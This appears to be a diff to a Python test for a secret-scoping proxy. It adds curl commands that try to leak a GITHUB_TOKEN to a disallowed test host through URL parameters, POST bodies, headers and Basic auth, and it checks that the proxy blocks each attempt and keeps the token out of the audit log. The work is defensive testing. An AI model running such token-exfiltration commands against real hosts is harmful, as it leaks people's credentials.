@@ -435,8 +435,10 @@ class RunInspectTest(InspectBase):
             "curl -sS --max-time 10 -i %s/public/x?t=$GITHUB_TOKEN; echo; "
             "curl -sS --max-time 10 -i --data \"token=$GITHUB_TOKEN\" %s/public/x; echo; "
             "curl -sS --max-time 10 -i -H \"X-T: $GITHUB_TOKEN\" http://other.test:%d/; echo; "
-            "curl -sS --max-time 10 \"%s/repos/acme/echo?t=$GITHUB_TOKEN\"; echo"
-            % (url, other, other, other, self.plain.port, url),
+            "curl -sS --max-time 10 \"%s/repos/acme/echo?t=$GITHUB_TOKEN\"; echo; "
+            "curl -sS --max-time 10 -o /dev/null -u \"x-access-token:$GITHUB_TOKEN\" %s/repos/acme/basic; "
+            "curl -sS --max-time 10 -i -u \"x:$GITHUB_TOKEN\" %s/public/basic; echo"
+            % (url, other, other, other, self.plain.port, url, url, other),
             "--inspect", "api.test", "--inspect", "other.test", "--secret", "GITHUB_TOKEN=api.test",
             env={"GITHUB_TOKEN": real, "DENIED_TOKEN": "d3n13d"})
         self.assertEqual(r.returncode, 0, r.stderr)
@@ -451,10 +453,12 @@ class RunInspectTest(InspectBase):
         # The upstream got the real value for api.test (in the header only), and nothing from the refused
         # requests; the sentinel it echoed back (from the URL) reached the jail as the sentinel.
         auth = [h.get("Authorization") for m, path, h in self.up.requests]
-        self.assertEqual(auth, ["token " + real, None])
-        self.assertEqual(json.loads(out.splitlines()[-1])["path"], "/repos/acme/echo?t=" + sentinel)
-        # Header, URL, body inside inspected connections; a header of a plain http:// request.
-        self.assertEqual(out.count("X-Proxy-Error: blocked-by-secret-scope"), 4)
+        basic = "Basic " + __import__("base64").b64encode(("x-access-token:" + real).encode()).decode()
+        self.assertEqual(auth, ["token " + real, None, basic])  # Basic credentials (git) substituted too
+        echo = [line for line in out.splitlines() if line.startswith("{")][-1]
+        self.assertEqual(json.loads(echo)["path"], "/repos/acme/echo?t=" + sentinel)
+        # Header, URL, body, Basic credentials inside inspected connections; a header of a plain http:// request.
+        self.assertEqual(out.count("X-Proxy-Error: blocked-by-secret-scope"), 5)
         self.assertEqual(self.plain.requests, [])
         with open(self.audit_path) as f:
             self.assertNotIn(real, f.read())
